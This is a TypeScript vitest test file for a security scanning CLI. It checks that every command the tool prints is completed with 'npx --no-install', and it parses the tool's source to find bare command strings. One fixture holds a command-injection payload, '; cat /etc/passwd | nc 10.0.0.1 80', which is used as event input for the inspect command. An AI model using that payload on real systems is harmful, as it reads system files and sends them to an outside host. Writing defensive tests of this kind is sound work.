import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { bareCommand } from '@emmental/report';
import { parseSync } from 'oxc-parser';
import { describe, expect, test } from 'vitest';
import { smallFleet } from './testing/fleet-apps.ts';
import { emmental, folderWith, repository } from './testing/run.ts';

/** A program that only npx finds, as after `npm install --save-dev`: a command without it cannot be pasted. */
const script = (folder: string): string => join(folder, 'node_modules', '.bin', 'emmental');

const bareIn = (text: string): readonly string[] =>
  text
    .replace(/\\?\n\s*/g, ' ')
    // The usage names the program, and the head of a screen the product.
    .replace(/^Usage: emmental \S+|emmental \d+\.\d+\.\d+/g, '')
    .match(new RegExp(`.{0,40}${bareCommand.source}.{0,30}`, 'g')) ?? [];

const shop = 'examples/weak-shop';
const log = 'apps/cli/testing/signals/weak-shop.log';

describe('a command on a screen starts as this program was started', () => {
  test.each([
    ['scan', shop, '--all'],
    ['scan', 'examples', '--all'],
    ['permissions', shop, '--all'],
    ['permissions', 'examples'],
    ['permissions', 'examples', '--action', '*', '--all'],
    ['permissions', 'examples/photo-pipeline'],
    ['holes', 'examples'],
    ['holes', shop],
    ['holes', shop, '--function', 'Admin'],
    ['holes', 'replay', 'Thumbnails/T11', '--path', shop],
    ['assume', '--path', shop],
    ['assume', 'NightlyReport/env.KEY_ARN', '--path', shop],
    ['exceptions', 'examples'],
    ['explain', 'access/missing', '--path', shop],
    ['explain', 'T1', '--path', shop],
    ['rules', 'list'],
    ['rules', 'show', 'access/missing'],
    ['rules', 'explain', 'access/missing', 'Mailer', '--path', shop],
    ['dependencies', shop],
    ['protect', shop],
    ['protect', 'examples'],
    ['profile', 'ready', shop],
    ['profile', 'check', shop],
    ['profile', 'explain', 'Admin', '--path', shop],
    ['signals', log],
    ['signals', 'hits', log, '--path', shop],
    ['signals', 'dry-run', log, '--path', shop],
    ['inspect', '--event', 'EVENT'],
    ['db', 'status'],
    ['scn'],
    ['scan', '--al'],
    ['profile', 'chek'],
    ['permissions', '--function', 'None', shop],
    ['signals'],
    ['signals', 'show', 'x', log],
    ['explain', 'nothing', '--path', shop],
    ['rules', 'list', 'nothing'],
    ['guard', 'path', 'ruby'],
  ])('%s %s %s %s %s', (...words) => {
    const folder = folderWith({
      'event.json': JSON.stringify({ body: '; cat /etc/passwd | nc 10.0.0.1 80' }),
    });
    const args = words
      .filter((word) => word !== undefined)
      .map((word) => (word === 'EVENT' ? join(folder, 'event.json') : word));
    const { stdout, stderr } = emmental(args, { script: script(repository) });
    expect(`${stdout}${stderr}`).not.toBe('');
    expect(bareIn(stdout + stderr)).toEqual([]);
  });

  test.each(['scan', 'holes', 'permissions', 'protect', 'assume'])('%s of several apps', (command) => {
    const cwd = folderWith(smallFleet);
    const { stdout, stderr } = emmental([command], { cwd, script: script(cwd) });
    expect(bareIn(stdout + stderr)).toEqual([]);
    expect(stdout).toContain('npx --no-install emmental');
  });

  test('the test finds one that does not', () => {
    expect(bareIn('(emmental exceptions lists them)')).toHaveLength(1);
    expect(bareIn('npx --no-install emmental exceptions, the emmental console, emmental 0.1.0')).toEqual([]);
  });
});

/** Functions and fields whose text is completed before it is printed: `typed` adds the program. */
const completed =
  /^(?:typed|WrongUse|tell|tellWrapped|commandLines|nextLines|onPath|withPath|complete|completeForApp|about|completing\(report\)|rulebasesOf|answer|fix|upload|commands?|derive|same|heading|lines)$/;

/** The text goes through `typed` in another function of the file: the name of the function that returns it. */
const typedByCaller: ReadonlySet<string> = new Set([
  'sentence',
  'secondVoice',
  'copy',
  'notChecked',
  'deniedLines',
]);

interface Node {
  readonly type: string;
  readonly start: number;
  readonly end: number;
}

/** The commands in the texts of a source that no function completes: each with its text. */
function bareTexts(file: string): readonly string[] {
  const source = readFileSync(join(repository, file), 'utf8');
  const found: string[] = [];
  const textOf = ({ start, end }: Node): string => source.slice(start, end);
  const visit = (value: unknown, within: readonly string[]): void => {
    if (Array.isArray(value)) for (const each of value) visit(each, within);
    if (value === null || typeof value !== 'object' || !('type' in value)) return;
    const node = value as Node & Readonly<Record<string, unknown>>;
    const name = node['callee'] ?? node['key'] ?? node['id'];
    const around = name ? [...within, textOf(name as Node)] : within;
    const text =
      node.type === 'Literal' || node.type === 'TemplateElement' ? textOf(node).replace(/^['"`]/, '') : '';
    if (new RegExp(bareCommand.source).test(text))
      if (!around.some((each) => completed.test(each) || typedByCaller.has(each)))
        found.push(`${file}: ${text}`);
    for (const child of Object.values(node)) visit(child, around);
  };
  visit(parseSync(file, source).program.body, []);
  return found;
}

test('every command in the texts of screens and errors is completed', () => {
  const rooms = ['apps/cli', 'packages/report'];
  const files = rooms.flatMap((room) =>
    readdirSync(join(repository, room), { recursive: true, encoding: 'utf8' })
      .map((name) => `${room}/${name.replaceAll('\\', '/')}`)
      .filter((name) => /(?<!\.test)\.ts$/.test(name) && !/\/(?:dist|node_modules|testing)\//.test(name)),
  );
  expect(files.length).toBeGreaterThan(200);
  expect(files.flatMap(bareTexts)).toEqual([]);
});
